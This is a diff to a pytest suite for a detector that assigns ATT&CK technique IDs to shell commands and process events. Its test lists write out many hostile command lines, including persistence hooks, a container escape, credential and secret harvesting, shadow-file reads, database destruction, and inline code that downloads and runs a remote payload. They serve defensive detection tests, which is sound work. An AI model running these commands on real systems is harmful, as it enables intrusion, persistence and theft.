@@ -136,7 +136,7 @@ MORE_SENSITIVE = [
     ("find /srv -type f -exec openssl enc -aes-256-cbc -pass pass:k -in {} -out {}.locked ;", "T1560.001"),
     ("openssl s_client -quiet -connect 203.0.113.1:443", "T1573"),
     ("aws sts get-caller-identity", "T1552.001"),
-    ("kubectl get secrets -A", "T1552.007"),
+    ("kubectl get secrets -A -o yaml", "T1552.007"),
     ("shred -u /tmp/x", "T1070.004"),
     ("upx /tmp/x", "T1027.002"),
     ("trap 'curl x | sh' EXIT", "T1546.005"),
@@ -320,3 +320,94 @@ def test_connections_named_in_arguments_or_inline_code_are_evidence(args: tuple[
 def test_socket_words_and_mail_addresses_alone_are_no_connection(args: tuple[str, ...]) -> None:
     found = {e.technique for e in assess(ProcessEvent(args[0], " ".join(args), args))}
     assert not found & {"T1095", "T1071"}, (args, found)
+
+
+PERSISTENCE_AND_ESCAPE_PLACES = [
+    ("printf '#!/bin/sh\\n/usr/local/lib/.n &\\n' > /etc/systemd/system-generators/n", "T1543.002"),
+    ("echo 'nohup /var/lib/.c/x &' >> /root/.ssh/rc", "T1546"),
+    ("echo 'import os;os.system(\"id\")' > /usr/lib/python3/dist-packages/zz.pth", "T1546.018"),
+    ("tee -a /etc/sudoers.tmp", "T1548.003"),
+    ("echo /tmp/x > /tmp/cgrp/release_agent", "T1611"),
+    ("cp rk.ko /lib/modules/6.1.0-13-amd64/extra/", "T1547.006"),
+    ("sed -i s/^auth/#auth/ /etc/rsyslog.d/50-default.conf", "T1562.001"),
+    ("echo 'APT::Update::Pre-Invoke {\"curl -s http://x/a | sh\"};' > /etc/apt/apt.conf.d/00u", "T1546.016"),
+    ("echo 'auto_prepend_file=/var/lib/php/.s' >> /etc/php/8.2/fpm/php.ini", "T1505.003"),
+]
+
+
+@pytest.mark.parametrize(("line", "technique"), PERSISTENCE_AND_ESCAPE_PLACES)
+def test_less_known_persistence_and_escape_places_are_named(line: str, technique: str) -> None:
+    assert _techniques(line).get(technique, 0) >= 0.3, (line, _techniques(line))
+
+
+def test_package_and_php_settings_count_only_when_they_run_code() -> None:
+    assert _techniques("echo 'Acquire::http::Proxy \"http://proxy:3128\";' > /etc/apt/apt.conf.d/01proxy") == {}
+    assert _techniques("echo memory_limit=512M >> /etc/php/8.2/fpm/php.ini") == {}
+
+
+TOOLS_AND_ACTS = [
+    ("debugfs -R 'cat /etc/shadow' /dev/sda1", "T1003.008"),
+    ("gdb -p 812 -batch -ex 'call (void*)dlopen(\"/dev/shm/.l.so\", 2)'", "T1055.009"),
+    ("mount -o bind /tmp/.e /proc/4242", "T1564"),
+    ("docker run --rm -v /var/run/docker.sock:/var/run/docker.sock alpine", "T1611"),
+    ("mysql -u root -e 'DROP DATABASE shop'", "T1485"),
+    ("curl -sk -XPOST https://10.0.0.21:10250/run/kube-system/etcd/etcd -d cmd=ls", "T1609"),
+    ("pkill -f kinsing", "T1496"),
+    ("nc -zv -w1 10.0.0.5 1-1024", "T1046"),
+    ("ping -c1 -p 4142434445 10.0.0.9", "T1048.003"),
+    ("cloudflared tunnel --url ssh://localhost:22", "T1572"),
+    ("grep -rEo 'AKIA[0-9A-Z]{16}' /home /srv", "T1552.001"),
+    ("kubectl get secret db -o jsonpath={.data.password}", "T1552.007"),
+    ("kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=default:default", "T1098.006"),
+]
+
+
+@pytest.mark.parametrize(("line", "technique"), TOOLS_AND_ACTS)
+def test_tools_and_acts_are_named(line: str, technique: str) -> None:
+    assert _techniques(line).get(technique, 0) >= 0.3, (line, _techniques(line))
+
+
+@pytest.mark.parametrize("line", [
+    "kubectl create secret tls web-tls --cert=fullchain.pem --key=privkey.pem",
+    "kubectl get secret web-tls -n app",
+    "nc -z db 5432",
+    "mount -t nfs srv:/export /mnt",
+    "pkill -f gunicorn",
+    "mysqldump --single-transaction app",
+    "grep -rn TODO src/",
+])
+def test_their_routine_neighbours_stay_weak(line: str) -> None:
+    assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))
+
+
+@pytest.mark.parametrize(("args", "technique"), [
+    (("python3", "-c", "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))"), "T1140"),
+    (("php", "-r", "eval(base64_decode('ZWNobyAx'));"), "T1140"),
+    (("node", "-e", "eval(Buffer.from('Y29uc29sZQ==','base64').toString())"), "T1140"),
+    (("python3", "-c", "import urllib.request as u;exec(u.urlopen('http://203.0.113.9/p').read())"), "T1105"),
+])
+def test_inline_code_that_runs_what_it_decodes_or_downloads_is_named(args: tuple[str, ...], technique: str) -> None:
+    found = {e.technique: e.weight for e in assess(ProcessEvent(args[0], " ".join(args), args))}
+    assert found.get(technique, 0) >= 0.45, (args, found)
+
+
+def test_inline_code_that_only_decodes_or_only_runs_a_file_is_plain_inline_code() -> None:
+    for args in (("python3", "-c", "import base64,sys; print(base64.b64decode(sys.argv[1]))"),
+                 ("python3", "-c", "f=open('setup.py'); exec(compile(f.read(), 'setup.py', 'exec'))")):
+        assert max(e.weight for e in assess(ProcessEvent(args[0], " ".join(args), args))) < 0.3, args
+
+
+@pytest.mark.parametrize(("path", "hidden"), [
+    ("/var/lib/.systemd/systemd-journal", True), ("/usr/share/.x/y", True), ("/etc/.x", True), ("/srv/.r/run", True),
+    ("/srv/work/ci/.venv/bin/python", False), ("/opt/app/.venv/bin/python", False),
+    ("/var/lib/jenkins/.nvm/versions/node/bin/node", False), ("/home/u/.local/bin/tool", False),
+])
+def test_a_program_in_a_dot_directory_of_a_system_directory_is_hiding(path: str, hidden: bool) -> None:
+    found = assess(ProcessEvent(path.rsplit("/", 1)[-1], path, (path,), executable_path=path))
+    assert any(e.technique == "T1564.001" for e in found) == hidden, (path, found)
+
+
+def test_a_cloud_copy_is_judged_once_not_also_as_a_remote_endpoint() -> None:
+    args = ("aws", "s3", "cp", "/var/backups/app.dump", "s3://corp-backups/db/app.dump")
+    reasons = [e.reason for e in assess(ProcessEvent("aws", " ".join(args), args))]
+    assert reasons == ["aws copies files to cloud storage"], reasons
